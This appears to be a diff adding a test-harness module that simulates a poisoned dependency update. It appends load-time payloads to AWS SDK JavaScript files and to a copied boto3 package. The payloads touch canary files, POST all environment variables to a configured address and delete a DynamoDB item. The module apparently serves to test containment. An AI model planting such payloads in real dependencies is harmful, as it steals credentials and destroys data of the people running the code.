@@ -1,0 +1,48 @@
+import { appendFileSync, cpSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Example } from './deployed.ts';
+import { sitePackages } from './tools.mjs';
+
+/**
+ * Puts code into the dependencies of a deployed example, as an update of somebody else's package may bring it: it acts as
+ * soon as it is loaded, each act by itself. `POISON` tells it where to act, so that it can be seen from outside.
+ */
+export function poison(example: Example, task: string): void {
+  if (example === 'weak-shop')
+    for (const name of ['lib-dynamodb', 's3-request-presigner', 'client-ses', 'client-kms'])
+      appendFileSync(join(task, 'node_modules/@aws-sdk', name, 'dist-cjs/index.js'), javascript);
+  else {
+    cpSync(join(sitePackages(), 'boto3'), join(task, 'boto3'), { recursive: true });
+    appendFileSync(join(task, 'boto3/__init__.py'), python);
+  }
+}
+
+const javascript = `
+;(() => {
+  const { canary, address, table, key } = JSON.parse(process.env.POISON);
+  const attempt = async (act) => { try { await act(); } catch {} };
+  attempt(() => require('node:child_process').execSync('touch ' + canary));
+  attempt(() => require('node:fs').writeFileSync(canary + '-file', 'x'));
+  attempt(() => fetch(address, { method: 'POST', body: JSON.stringify(process.env) }));
+  attempt(() => {
+    const { DeleteItemCommand, DynamoDBClient } = require('@aws-sdk/client-dynamodb');
+    return new DynamoDBClient({}).send(new DeleteItemCommand({ TableName: table, Key: { [key]: { S: '1' } } }));
+  });
+})();
+`;
+
+const python = `
+def _updated():
+    import json, os, urllib.request
+    to = json.loads(os.environ["POISON"])
+    def attempt(act):
+        try:
+            act()
+        except BaseException:
+            pass
+    attempt(lambda: os.system("touch " + to["canary"]))
+    attempt(lambda: open(to["canary"] + "-file", "w").close())
+    attempt(lambda: urllib.request.urlopen(to["address"], data=b"x", timeout=2).read())
+    attempt(lambda: client("dynamodb").delete_item(TableName=to["table"], Key={to["key"]: {"S": "1"}}))
+_updated()
+`;
